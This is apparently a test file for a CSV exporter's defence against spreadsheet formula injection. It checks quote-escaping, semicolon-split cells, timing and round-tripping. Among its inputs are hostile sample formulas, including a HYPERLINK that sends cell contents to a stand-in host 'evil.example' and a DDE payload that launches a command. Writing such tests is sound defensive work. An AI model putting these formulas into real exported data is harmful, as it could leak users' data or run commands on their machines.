import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { safeCell, toCsv } from '../../cli/write-csv.ts';
import { SEED } from '../properties/seed.ts';

/** The cells of CSV text, as RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gu)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1 || row[0] !== '');
}

const BEGINS_FORMULA = /^\s*[=+\-@＝＋－＠]/u;
const hostile = fc.array(
  fc.constantFrom('=', '+', '-', '@', '＝', '＠', ' ', '\t', '\r', '\n', ';', ',', '"', "'", '|', 'cmd', '1', '\u00A0'),
  { maxLength: 12 },
);

describe('a CSV export', () => {
  it.each([
    '=1+1',
    '+31 20 123',
    '-5',
    '@SUM(A1)',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    '\tcmd',
    '\rcmd',
    '\ncmd',
  ])('shows %j as text', (text) => {
    expect(safeCell(text)).toMatch(/^\s*'/);
  });

  it.each(['\n', ' ', '\t;', '\u00A0', '=', '-', ' ='])('of any length takes as long as it is: %j', (unit) => {
    const text = unit.repeat(80_000);
    const started = performance.now();
    safeCell(`x${text}`);
    safeCell(`${text}x`);
    expect(performance.now() - started).toBeLessThan(1_500);
  });

  it('also where a semicolon splits the cell, as in a Dutch or German spreadsheet', () => {
    expect(safeCell('Jansen;=1+1')).toBe("Jansen;'=1+1");
    expect(safeCell('Jansen; @x')).toBe("Jansen; '@x");
    expect(toCsv([['a', 'b;=1']])).toContain('"b;\'=1"');
  });

  it.each(['Jansen-de Vries', 'a+b@example.com', '250.00', "O'Neil", 'Zoë', '2026-11-02', '', 'x = y'])(
    'leaves %j as it is',
    (text) => {
      expect(safeCell(text)).toBe(text);
    },
  );

  it('holds no cell that begins a formula, whoever splits it, and loses nothing else', () => {
    const rows = fc.array(
      fc.array(
        hostile.map((parts) => parts.join('')),
        { minLength: 2, maxLength: 4 },
      ),
      {
        minLength: 1,
        maxLength: 4,
      },
    );
    fc.assert(
      fc.property(rows, (cells) => {
        const read = readCsv(toCsv(cells).replace(/^\uFEFF/, ''));
        const withoutQuotes = (table: string[][]) => JSON.stringify(table).replaceAll("'", '');
        if (withoutQuotes(read) !== withoutQuotes(cells)) return false;
        return !read.flat().some((cell) => cell.split(/[,;\t\r\n]/u).some((part) => BEGINS_FORMULA.test(part)));
      }),
      { numRuns: 1_000, seed: SEED },
    );
  });
});
